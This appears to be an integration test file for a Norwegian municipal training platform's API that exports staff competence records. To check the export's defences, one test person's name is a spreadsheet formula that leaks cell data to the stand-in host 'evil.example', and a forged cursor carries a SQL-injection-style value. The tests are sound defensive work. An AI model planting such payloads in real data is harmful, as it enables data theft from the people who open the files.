import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Express } from 'express';
import { OPERATOR } from '../../src/audit/audit-log.js';
import { findCompetence } from '../../src/competence/catalogue.js';
import { applyCatalogueImport } from '../../src/competence/catalogue-import.js';
import { EvidenceStore, evidenceDir } from '../../src/competence/evidence-files.js';
import { grantFromCompletion, revokeHolding } from '../../src/competence/holdings.js';
import type { HoldingSource } from '../../src/competence/tables.js';
import type { NewStep } from '../../src/paths/drafts.js';
import { deliverOutcome } from '../../src/paths/engine.js';
import { enrol } from '../../src/paths/enrolments.js';
import { openPostgres } from '../../src/db/postgres.js';
import { createPerson } from '../../src/people/people.js';
import { erasePerson } from '../../src/privacy/erase.js';
import { competencePullRouter } from '../../src/web/competence/pull-api.js';
import { completionsPullRouter } from '../../src/web/completions/completions-api.js';
import { HOLDING_ROWS_CSV_COLUMNS } from '../../src/web/completions/holding-rows-format.js';
import { publishPath } from '../learner/support.js';
import { testApp } from '../support/app.js';
import { BACKEND, createTestDatabase, type TestDatabase } from '../support/database.js';
import { schemaProblems } from '../support/openapi-schema.js';
import { pullClients, waitUntilPullable } from '../support/pull-clients.js';

const PUBLIC_URL = 'https://laering.example.no';
const web: NewStep = { type: 'web', title: 'Se filmen om rømning', required: true, config: { resource: { kind: 'link', url: 'https://www.ks.no/' }, done: { by: 'mark-as-done' } } } as NewStep;
const REASON = 'Registrert på feil person: Ola Nordmann';

interface HoldingRowJson {
  id: string;
  event: 'granted' | 'revoked';
  changedAt: string;
  person: { id: string; employeeNumber: string | null; name: string | null; email: string | null };
  competence: { code: string; name: string };
  level: number | null;
  source: { kind: HoldingSource; completion: { id: string; path: { id: string; title: string } | null; version: number | null } | null };
  achievedOn: string;
  expiresOn: string | null;
  recordedAt: string;
  renewsId: string | null;
  revoked: boolean;
  revokedAt: string | null;
}

/**
 * GET /api/completions?kind=holdings: a municipality's holding records as completion rows, with the
 * path rows' cursor guarantee, a revocation that reaches a client already past the record, two
 * municipalities' clients, an erased person, and what is refused.
 */
describe(`pulling holding rows from the completions pull (${BACKEND})`, { timeout: 60_000 }, () => {
  let testDb: TestDatabase;
  let app: Express;
  let dataDir: string;
  const db = () => testDb.database.db;
  let kongsberg: string;
  let berg: string;
  let firePath: { pathId: string; stepIds: string[] };
  const people = {} as Record<'kari' | 'ola' | 'eva' | 'berit', string>;
  const holdings = {} as Record<'kariFire' | 'olaTruck' | 'evaImported' | 'kariRenewal' | 'berit', string>;
  let kariCompletion: string;

  const clients = pullClients(db, () => app, PUBLIC_URL);
  const { add: client, get } = clients;
  const pullAll = (first: string, as = 'hr') => clients.pullAll<HoldingRowJson>(first, as);
  const settled = () => waitUntilPullable(db(), 'competence_holding_events');

  async function completeAndGrant(tenantId: string, personId: string, p: { pathId: string; stepIds: string[] }): Promise<{ completionId: string; holdingId: string }> {
    const { enrolmentId } = await enrol(db(), tenantId, { personId, pathId: p.pathId });
    let completionId: string | null = null;
    for (const stepId of p.stepIds) completionId = (await deliverOutcome(db(), tenantId, { enrolmentId, stepId, idempotencyKey: stepId, outcome: { kind: 'web', event: 'done' } })).completionId ?? completionId;
    await grantFromCompletion(db(), completionId!);
    const holding = await db().selectFrom('competence_holdings').select('id').where('path_completion_id', '=', completionId!).executeTakeFirstOrThrow();
    return { completionId: completionId!, holdingId: holding.id };
  }

  async function hold(tenantId: string, personId: string, code: string, values: { source: 'registered' | 'imported'; level?: number; achievedOn: string; expiresOn: string | null; renewsId?: string }) {
    const competence = (await findCompetence(db(), tenantId, code))!;
    return (await db().insertInto('competence_holdings').values({
      tenant_id: tenantId, person_id: personId, competence_id: competence.id, level: values.level ?? null, source: values.source, achieved_on: values.achievedOn, expires_on: values.expiresOn,
      path_completion_id: null, path_version_id: null, declaration_id: null, evidence: JSON.stringify({ number: 'T-1', issuer: 'Arbeidstilsynet' }), renews_id: values.renewsId ?? null,
      recorded_by_kind: values.source === 'imported' ? 'operator' : 'person', recorded_by_id: 'test',
    }).returning('id').executeTakeFirstOrThrow()).id;
  }


  const csvRows = (text: string) => parse(text, { delimiter: ';', columns: true, bom: true }) as Record<string, string>[];

  beforeAll(async () => {
    testDb = await createTestDatabase();
    dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'holding-rows-'));
    kongsberg = (await db().insertInto('tenants').values({ kind: 'municipality', kommunenummer: '3303', name: 'Kongsberg' }).returning('id').executeTakeFirstOrThrow()).id;
    berg = (await db().insertInto('tenants').values({ kind: 'municipality', kommunenummer: '3399', name: 'Berg' }).returning('id').executeTakeFirstOrThrow()).id;
    const catalogue = 'område;kode;kompetanse;gyldighet_måneder\nFelles;brannvern;Brannvern;12\nTeknisk;truck;Truckførerbevis;\n';
    await applyCatalogueImport(db(), kongsberg, catalogue, OPERATOR);
    await applyCatalogueImport(db(), berg, catalogue, OPERATOR);

    people['kari'] = (await createPerson(db(), kongsberg, { name: 'Kari Nordmann', email: 'kari@kongsberg.kommune.no' })).id;
    await db().insertInto('employees').values({ tenant_id: kongsberg, person_id: people['kari'], employee_number: '1001' }).execute();
    people['ola'] = (await createPerson(db(), kongsberg, { name: '=HYPERLINK("http://evil.example/?"&A1,"Ola")' })).id;
    people['eva'] = (await createPerson(db(), kongsberg, { name: 'Eva Slettemo', email: 'eva.slettemo@kongsberg.kommune.no' })).id;
    await db().insertInto('employees').values({ tenant_id: kongsberg, person_id: people['eva'], employee_number: '1002' }).execute();
    people['berit'] = (await createPerson(db(), berg, { name: 'Berit Berg', email: 'berit@berg.kommune.no' })).id;

    firePath = await publishPath(testDb.database, kongsberg, [web], { title: 'Brannvern for alle', settings: { grants: [{ competence: 'brannvern', validMonths: 12 }] } });
    const bergPath = await publishPath(testDb.database, berg, [web], { title: 'Brannvern i Berg', settings: { grants: [{ competence: 'brannvern', validMonths: 12 }] } });

    const kari = await completeAndGrant(kongsberg, people['kari'], firePath);
    kariCompletion = kari.completionId;
    holdings['kariFire'] = kari.holdingId;
    holdings['olaTruck'] = await hold(kongsberg, people['ola'], 'truck', { source: 'registered', level: 2, achievedOn: '2024-05-02', expiresOn: null });
    holdings['evaImported'] = await hold(kongsberg, people['eva'], 'brannvern', { source: 'imported', achievedOn: '2025-01-15', expiresOn: '2026-01-15' });
    holdings['berit'] = (await completeAndGrant(berg, people['berit'], bergPath)).holdingId;

    await client('hr', kongsberg, ['completions/read']);
    await client('competence-hr', kongsberg, ['competence/read']);
    await client('berg-hr', berg, ['completions/read']);
    app = testApp(testDb.database, { apiRouters: [completionsPullRouter({ db: db(), databaseKind: testDb.database.kind, publicUrl: PUBLIC_URL, csvBatchRows: 2 }), competencePullRouter({ db: db(), publicUrl: PUBLIC_URL })] });
    await settled();
  });
  afterAll(async () => {
    await testDb?.dispose();
    if (dataDir) fs.rmSync(dataDir, { recursive: true, force: true });
  });

  it('gives one row per holding record with person, competence, level, source (the path completion it documents), days and revocation; Berg’s client sees only Berg’s', async () => {
    const res = await get('/api/completions?kind=holdings');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('application/json');
    expect(res.body).toMatchObject({ municipality: { kommunenummer: '3303', name: 'Kongsberg' }, kind: 'holdings', since: null, until: null, next: null });
    expect(res.headers['x-cursor']).toBe(res.body.cursor);
    const data = res.body.data as HoldingRowJson[];
    expect(data.map((h) => [h.id, h.event])).toEqual([[holdings['kariFire'], 'granted'], [holdings['olaTruck'], 'granted'], [holdings['evaImported'], 'granted']]);
    const stored = await db().selectFrom('competence_holdings').select(['achieved_on', 'expires_on', 'recorded_at']).where('id', '=', holdings['kariFire']).executeTakeFirstOrThrow();
    expect(data[0]).toEqual({
      id: holdings['kariFire'],
      event: 'granted',
      changedAt: data[0]!.recordedAt,
      person: { id: people['kari'], employeeNumber: '1001', name: 'Kari Nordmann', email: 'kari@kongsberg.kommune.no' },
      competence: { code: 'brannvern', name: 'Brannvern' },
      level: null,
      source: { kind: 'path-completion', completion: { id: kariCompletion, path: { id: firePath.pathId, title: 'Brannvern for alle' }, version: 1 } },
      achievedOn: stored.achieved_on,
      expiresOn: stored.expires_on,
      recordedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/),
      renewsId: null,
      revoked: false,
      revokedAt: null,
    });
    expect(new Date(data[0]!.recordedAt).getTime()).toBe(stored.recorded_at.getTime());
    expect(data[1]).toMatchObject({ person: { id: people['ola'], employeeNumber: null, email: null }, competence: { code: 'truck', name: 'Truckførerbevis' }, level: 2, source: { kind: 'registered', completion: null }, achievedOn: '2024-05-02', expiresOn: null });
    expect(data[2]).toMatchObject({ source: { kind: 'imported', completion: null }, achievedOn: '2025-01-15', expiresOn: '2026-01-15' });
    // The evidence (certificate numbers) is the competence pull's, not this one's.
    expect(res.text).not.toContain('T-1');

    const bergRes = await get('/api/completions?kind=holdings', 'berg-hr');
    expect(bergRes.status).toBe(200);
    expect(bergRes.body.municipality).toEqual({ kommunenummer: '3399', name: 'Berg' });
    expect((bergRes.body.data as HoldingRowJson[]).map((h) => h.id)).toEqual([holdings['berit']]);
    for (const id of [holdings['kariFire'], holdings['olaTruck'], holdings['evaImported'], people['kari'], people['ola'], people['eva']]) expect(bergRes.text).not.toContain(id);
    expect(res.text).not.toContain(holdings['berit']);
    expect(res.text).not.toContain(people['berit']);
  });

  it('pages with the cursor, every row once; a holding recorded while paging comes after; a revocation comes as its own row to a client already past the record, without its reason', async () => {
    const seen: string[] = [];
    let url: string | null = '/api/completions?kind=holdings&limit=1';
    let cursor = '';
    let pages = 0;
    while (url) {
      const res = await get(url);
      expect(res.status).toBe(200);
      pages += 1;
      seen.push(...(res.body.data as HoldingRowJson[]).map((h) => h.id));
      if (res.body.next) {
        expect(res.body.next).toMatch(/^https:\/\/laering\.example\.no\/api\/completions\?kind=holdings&limit=1&cursor=/);
        expect(res.headers['link']).toBe(`<${res.body.next as string}>; rel="next"`);
        if (pages === 1) {
          holdings['kariRenewal'] = await hold(kongsberg, people['kari'], 'truck', { source: 'registered', level: 3, achievedOn: '2025-06-01', expiresOn: null, renewsId: holdings['olaTruck'] });
          await settled();
        }
      }
      cursor = res.body.cursor as string;
      url = res.body.next as string | null;
    }
    expect(seen).toEqual([holdings['kariFire'], holdings['olaTruck'], holdings['evaImported'], holdings['kariRenewal']]);
    expect((await get(`/api/completions?kind=holdings&cursor=${cursor}`)).body.data).toEqual([]);

    await revokeHolding(db(), kongsberg, holdings['kariFire'], OPERATOR, REASON);
    await settled();
    const after = await get(`/api/completions?kind=holdings&cursor=${cursor}`);
    expect(after.status).toBe(200);
    const revoked = after.body.data as HoldingRowJson[];
    expect(revoked.map((h) => [h.id, h.event])).toEqual([[holdings['kariFire'], 'revoked']]);
    const revocation = await db().selectFrom('competence_holding_revocations').select('revoked_at').where('holding_id', '=', holdings['kariFire']).executeTakeFirstOrThrow();
    expect(revoked[0]).toMatchObject({ revoked: true, person: { id: people['kari'] }, competence: { code: 'brannvern' }, source: { kind: 'path-completion' } });
    expect(new Date(revoked[0]!.revokedAt!).getTime()).toBe(revocation.revoked_at.getTime());
    expect(revoked[0]!.changedAt).toBe(revoked[0]!.revokedAt);
    expect(after.text).not.toContain('feil person');
    expect((await get(`/api/completions?kind=holdings&cursor=${after.body.cursor as string}`)).body.data).toEqual([]);
    // A client starting now gets the record (as it stands: revoked) and its revocation; the renewal names what it renews.
    const all = (await pullAll('/api/completions?kind=holdings')).rows;
    expect(all.filter((h) => h.id === holdings['kariFire']).map((h) => [h.event, h.revoked])).toEqual([['granted', true], ['revoked', true]]);
    expect(all.find((h) => h.id === holdings['kariRenewal'])!.renewsId).toBe(holdings['olaTruck']);
  });

  it.skipIf(BACKEND === 'pglite')('two interleaved transactions: a holding recorded by the one that started first and commits last is neither skipped nor pulled twice, nor is the other’s revocation', async () => {
    const second = openPostgres({ connectionString: testDb.url!, poolMax: 2 });
    let release = () => undefined as void;
    let slow: Promise<void> = Promise.resolve();
    try {
      const { cursor: start } = await pullAll('/api/completions?kind=holdings');
      const competence = (await findCompetence(db(), kongsberg, 'truck'))!;
      const victim = await hold(kongsberg, people['kari'], 'brannvern', { source: 'registered', achievedOn: '2023-03-01', expiresOn: null });
      await settled();
      const { cursor: past } = await pullAll(`/api/completions?kind=holdings&cursor=${start}`);
      const released = new Promise<void>((resolve) => (release = resolve));
      let written!: (id: string) => void;
      const slowWritten = new Promise<string>((resolve) => (written = resolve));
      // Transaction A records a holding first (the smaller transaction id) and stays open.
      slow = second.db.transaction().execute(async (trx) => {
        const row = await trx.insertInto('competence_holdings').values({
          tenant_id: kongsberg, person_id: people['ola'], competence_id: competence.id, level: 1, source: 'registered', achieved_on: '2025-03-01', expires_on: null,
          path_completion_id: null, path_version_id: null, declaration_id: null, evidence: '{}', renews_id: null, recorded_by_kind: 'person', recorded_by_id: 'test',
        }).returning('id').executeTakeFirstOrThrow();
        written(row.id);
        await released;
      });
      const slowId = await slowWritten;
      // Transaction B revokes another holding and commits at once.
      await revokeHolding(db(), kongsberg, victim, OPERATOR, REASON);
      const during = await get(`/api/completions?kind=holdings&cursor=${past}`);
      expect(during.status).toBe(200);
      const duringRows = (during.body.data as HoldingRowJson[]).map((h) => `${h.id} ${h.event}`);
      // B's revocation is held back while A, older, may still commit: a cursor past it would skip A's holding.
      expect(duringRows).toEqual([]);
      release();
      await slow;
      await settled();
      const after = await pullAll(`/api/completions?kind=holdings&cursor=${during.body.cursor as string}`);
      expect(after.rows.map((h) => `${h.id} ${h.event}`)).toEqual([`${slowId} granted`, `${victim} revoked`]);
    } finally {
      // A failed expectation must not leave transaction A open (it would hold back every pull of the cluster).
      release();
      await slow.catch(() => undefined);
      await second.close();
    }
  });

  it('streams CSV (BOM, ; separators, CRLF, formulas made text) with every row once across batches, and an X-Cursor to go on from', async () => {
    const json = (await pullAll('/api/completions?kind=holdings')).rows;
    const res = await get('/api/completions?kind=holdings&format=csv').buffer(true);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="kompetanse-3303.csv"');
    expect(res.text.startsWith(`\uFEFF${HOLDING_ROWS_CSV_COLUMNS.join(';')}\r\n`)).toBe(true);
    expect(res.text.replace(/\r\n/g, '')).not.toContain('\n');
    const accepted = await get('/api/completions?kind=holdings').set('Accept', 'text/csv').buffer(true);
    expect(accepted.text).toBe(res.text);
    const rows = csvRows(res.text);
    expect(Object.keys(rows[0]!)).toEqual([...HOLDING_ROWS_CSV_COLUMNS]);
    expect(rows.map((r) => [r['holding_id'], r['event']])).toEqual(json.map((h) => [h.id, h.event]));
    const kari = rows.find((r) => r['holding_id'] === holdings['kariFire'] && r['event'] === 'granted')!;
    expect(kari).toMatchObject({ person_id: people['kari'], employee_number: '1001', name: 'Kari Nordmann', competence_code: 'brannvern', source: 'path-completion', completion_id: kariCompletion, path_id: firePath.pathId, path_title: 'Brannvern for alle', version: '1', revoked: 'true' });
    expect(rows.find((r) => r['holding_id'] === holdings['olaTruck'])).toMatchObject({ name: `'=HYPERLINK("http://evil.example/?"&A1,"Ola")`, level: '2', source: 'registered', completion_id: '', path_title: '', expires_on: '', revoked: 'false', revoked_at: '' });
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(res.text).not.toContain('feil person');

    const cursor = res.headers['x-cursor'] as string;
    expect((await get(`/api/completions?kind=holdings&cursor=${cursor}`)).body.data).toEqual([]);
    const fresh = await hold(kongsberg, people['ola'], 'brannvern', { source: 'imported', achievedOn: '2025-02-01', expiresOn: null });
    await settled();
    expect(csvRows((await get(`/api/completions?kind=holdings&format=csv&cursor=${cursor}`).buffer(true)).text).map((r) => r['holding_id'])).toEqual([fresh]);
    const bergCsv = await get('/api/completions?kind=holdings&format=csv', 'berg-hr').buffer(true);
    expect(csvRows(bergCsv.text).map((r) => r['holding_id'])).toEqual([holdings['berit']]);
  });

  it('since and until narrow the rows by the day achieved (from its start in Oslo), the cursor bound to them', async () => {
    const may = await pullAll(`/api/completions?kind=holdings&since=${encodeURIComponent('2024-05-02T00:00:00+02:00')}&until=${encodeURIComponent('2024-05-03T00:00:00+02:00')}`);
    expect(may.rows.map((h) => h.id)).toEqual([holdings['olaTruck']]);
    // One minute before the day starts in Oslo is before it: the holding of 2024-05-02 is not before it.
    const april = `since=${encodeURIComponent('2024-04-01T00:00:00Z')}`;
    expect((await pullAll(`/api/completions?kind=holdings&${april}&until=${encodeURIComponent('2024-05-01T21:59:00Z')}`)).rows).toEqual([]);
    expect((await pullAll(`/api/completions?kind=holdings&${april}&until=${encodeURIComponent('2024-05-01T22:00:01Z')}`)).rows.map((h) => h.id)).toEqual([holdings['olaTruck']]);
    const other = await get(`/api/completions?kind=holdings&cursor=${may.cursor}`);
    expect(other.status).toBe(400);
    expect(other.body).toMatchObject({ parameter: 'cursor' });
  });

  it('an erased person’s rows keep the holding but not the name, e-mail or employee number', async () => {
    await erasePerson(db(), { tenantId: kongsberg, personId: people['eva'], actor: OPERATOR, reason: 'request', publicUrl: PUBLIC_URL, evidence: new EvidenceStore(evidenceDir(dataDir)) });
    const json = await get('/api/completions?kind=holdings');
    const eva = (json.body.data as HoldingRowJson[]).find((h) => h.id === holdings['evaImported'])!;
    expect(eva.person).toEqual({ id: people['eva'], employeeNumber: expect.stringMatching(/^slettet-/), name: null, email: null });
    expect(eva).toMatchObject({ competence: { code: 'brannvern' }, achievedOn: '2025-01-15', expiresOn: '2026-01-15' });
    const csv = await get('/api/completions?kind=holdings&format=csv').buffer(true);
    for (const text of [json.text, csv.text]) {
      expect(text).not.toContain('Slettemo');
      expect(text).not.toContain('eva.slettemo@');
      expect(text).not.toContain('1002');
    }
  });

  it('refuses a bad kind, a cursor of the other kind and forged cursors with 400 problem+json naming the parameter; without the scope 403', async () => {
    const pathsCursor = (await get('/api/completions')).body.cursor as string;
    const holdingsCursor = (await get('/api/completions?kind=holdings')).body.cursor as string;
    const decoded = JSON.parse(Buffer.from(holdingsCursor, 'base64url').toString('utf8')) as { kind: string; query: Record<string, unknown>; after: Record<string, unknown> };
    const forged = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
    const cases: [string, string, string?][] = [
      ['/api/completions?kind=holding', 'kind', 'paths'],
      ['/api/completions?kind=', 'kind'],
      ['/api/completions?kind=HOLDINGS', 'kind'],
      ['/api/completions?kind=holdings&kind=paths', 'kind'],
      [`/api/completions?kind=holdings&cursor=${pathsCursor}`, 'cursor', 'kind=paths'],
      [`/api/completions?cursor=${holdingsCursor}`, 'cursor', 'kind=holdings'],
      [`/api/completions?kind=paths&cursor=${holdingsCursor}`, 'cursor', 'kind=holdings'],
      [`/api/completions?kind=holdings&cursor=${forged({ ...decoded, after: { ...decoded.after, id: '00000000-0000-0000-0000-000000000000' } })}`, 'cursor'],
      [`/api/completions?kind=holdings&cursor=${forged({ ...decoded, after: { ...decoded.after, id: '1 or 1=1' } })}`, 'cursor'],
      [`/api/completions?kind=holdings&cursor=${forged({ ...decoded, after: { ...decoded.after, id: '99999999999999999999' } })}`, 'cursor'],
      [`/api/completions?kind=holdings&cursor=${forged({ ...decoded, kind: 'gaps' })}`, 'cursor'],
      [`/api/completions?kind=holdings&cursor=${(await get('/api/completions?kind=holdings', 'berg-hr')).body.cursor as string}`, 'cursor', 'another municipality'],
      ['/api/completions?kind=holdings&format=csv&limit=5', 'limit'],
    ];
    for (const [url, parameter, detail] of cases) {
      const res = await get(url);
      expect(`${url} ${res.status}`).toBe(`${url} 400`);
      expect(res.headers['content-type']).toContain('application/problem+json');
      expect(res.body).toMatchObject({ type: '/problems/validation-failed', status: 400, parameter });
      if (detail) expect(res.body.detail).toContain(detail);
    }
    const unscoped = await get('/api/completions?kind=holdings', 'competence-hr');
    expect(unscoped.status).toBe(403);
    expect(unscoped.headers['content-type']).toContain('application/problem+json');
    expect(unscoped.body.detail).toContain('completions/read');
    expect((await request(app).get('/api/completions?kind=holdings')).status).toBe(401);
    // A cursor names a position, never a municipality's rows: Kongsberg's position relabelled for Berg gives Berg's rows only.
    const relabelled = forged({ ...decoded, query: { ...decoded.query, municipality: '3399' } });
    const berg = await get(`/api/completions?kind=holdings&cursor=${relabelled}`, 'berg-hr');
    expect(berg.status).toBe(200);
    for (const id of Object.values(people).filter((p) => p !== people['berit'])) expect(berg.text).not.toContain(id);
  });

  it('records the kind in the completions.pulled audit event', async () => {
    const before = (await db().selectFrom('audit_events').select('id').where('action', '=', 'completions.pulled').execute()).map((e) => e.id);
    const json = await get('/api/completions?kind=holdings');
    await get('/api/completions?kind=holdings&format=csv').buffer(true);
    await get('/api/completions');
    const events = (await db().selectFrom('audit_events').select(['id', 'details']).where('action', '=', 'completions.pulled').orderBy('id').execute()).filter((e) => !before.includes(e.id));
    expect(events.map((e) => e.details)).toEqual([
      expect.objectContaining({ kind: 'holdings', format: 'json', rows: (json.body.data as unknown[]).length, page: 'first' }),
      expect.objectContaining({ kind: 'holdings', format: 'csv', rows: (json.body.data as unknown[]).length }),
      expect.objectContaining({ kind: 'paths', format: 'json' }),
    ]);
  });

  it('is described in the OpenAPI document: holding pages match its schemas, and a field it does not describe is caught', async () => {
    const document = (await request(app).get('/api/openapi.json')).body as Record<string, unknown>;
    const doc = document as { paths: Record<string, { get: { parameters: { $ref: string }[]; responses: Record<string, { content?: Record<string, { schema: Record<string, unknown> }> }> } }> };
    const operation = doc.paths['/api/completions']!.get;
    expect(operation.parameters.map((p) => p.$ref)).toContain('#/components/parameters/completionsKind');
    const pageSchema = operation.responses['200']!.content!['application/json']!.schema;
    const pages = [await get('/api/completions?kind=holdings'), await get('/api/completions?kind=holdings&limit=1'), await get('/api/completions?kind=holdings', 'berg-hr'), await get('/api/completions'), await get('/api/completions?kind=paths')];
    for (const page of pages) {
      expect(page.status).toBe(200);
      expect(schemaProblems(document, pageSchema, page.body)).toEqual([]);
    }
    const holdingsPage = pages[0]!.body as { data: Record<string, unknown>[] };
    expect(holdingsPage.data.length).toBeGreaterThan(3);
    expect(schemaProblems(document, pageSchema, { ...holdingsPage, data: [{ ...holdingsPage.data[0], reason: 'x' }] })).toEqual(['$.data[0].reason: not described']);
    expect(schemaProblems(document, pageSchema, { ...holdingsPage, data: [{ ...holdingsPage.data[0], event: 'expired' }] })).toHaveLength(1);
  });
});
